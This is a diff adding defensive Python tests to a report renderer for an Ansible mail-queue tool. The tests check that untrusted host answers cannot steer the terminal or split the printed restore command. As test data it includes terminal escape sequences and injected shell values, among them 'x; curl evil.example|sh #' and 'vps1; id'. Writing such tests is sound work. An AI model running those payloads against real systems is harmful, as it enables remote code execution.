@@ -2,6 +2,7 @@
 
 import importlib.util
 import pathlib
+import shlex
 
 import pytest
 from hypothesis import given
@@ -226,3 +227,87 @@ def test_the_total_of_lists():
     assert tables.total([seen(total=5, matched=2), seen(total=1, matched=1)]) == (
         "2 hosts: 6 messages in 2 queues, 3 selected"
     )
+
+
+# --- answers of a host that lies -----------------------------------------------------------------------------
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\r"
+
+
+def told(**values):
+    """A change as a module returns it, through the check."""
+    answer = dict(done(run=RUN, matched=1, moved=1, states={"deferred": 1}, messages=[message()]), **values)
+    return dict(tables.checked(answer, None), check=False)
+
+
+def test_nothing_of_an_answer_steers_the_terminal():
+    answer = told(
+        state="quar" + ESCAPES,
+        run=RUN + ESCAPES,
+        states={"deferred" + ESCAPES: 1},
+        evidence=[ESCAPES],
+        passed_over=[{"id": ESCAPES + "vps1: all clean", "reason": ESCAPES}],
+        passed_over_total=1,
+        messages=[message(id=ESCAPES, state=ESCAPES, subject=ESCAPES, sender=ESCAPES)],
+    )
+    shown = [*tables.lines_of("vps1", answer, COLUMNS), tables.total([answer])]
+    assert len(shown) > 8
+    assert all(line.isprintable() for line in shown)
+
+
+def test_the_command_to_copy_is_one_command():
+    lines = tables.lines_of("vps1; id", told(run="x; curl evil.example|sh #"), COLUMNS)
+    command = lines[lines.index("  To have them back:") + 1]
+    assert shlex.split(command) == [
+        "ansible-playbook",
+        "playbooks/queue.yml",
+        "--limit",
+        "vps1; id",
+        "-e",
+        "queue_action=restore",
+        "-e",
+        "queue_run=x; curl evil.example|sh #",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("values", "said"),
+    [
+        ({"matched": "1"}, "matched is the text '1', not a number from 0 on"),
+        ({"matched": 10**6000}, "matched is a number of 19932 bits, not"),
+        ({"matched": float("nan")}, "matched is nan, not"),
+        ({"matched": True}, "matched is True, not"),
+        ({"matched": -1}, "matched is -1, not"),
+        ({"states": ["deferred"]}, "states is a list, not a dictionary"),
+        ({"messages": [{"id": "x"}]}, "messages[0].instance is missing."),
+        ({"evidence": "x"}, "evidence is the text 'x', not a list"),
+        ({"state": None}, "state is null, not a text"),
+    ],
+)
+def test_a_bad_host_costs_its_own_row(values, said):
+    bad, good = told(**values), told()
+    lines = tables.lines_of("bad", bad, COLUMNS)
+    assert lines[0].startswith("bad: not understood: The host's answer was not understood, so nothing of it counts: ")
+    assert said in lines[0]
+    assert tables.total([bad, good]) == "2 hosts (1 not understood): 1 selected, 1 quarantined"
+
+
+def test_a_time_that_no_calendar_has_costs_a_cell():
+    assert "  ?  " in "\n".join(tables.lines_of("vps1", told(messages=[message(arrival=-(2**62))]), COLUMNS))
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
+    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
+    max_leaves=5,
+)
+
+
+@given(st.sampled_from([done(), seen()]), st.data())
+def test_whatever_a_host_says_the_table_is_printed(usual, data):
+    keys = sorted(set(usual) - {"trouble", "check"})
+    changes = data.draw(st.dictionaries(st.sampled_from(keys), JSON, min_size=1))
+    answer = dict(tables.checked(dict(usual, **changes), None), check=False)
+    lines = [*tables.lines_of("vps1", answer, COLUMNS), tables.total([answer])]
+    assert all(line.isprintable() for line in lines)
+    assert list(tables.selectable(answer)) is not None
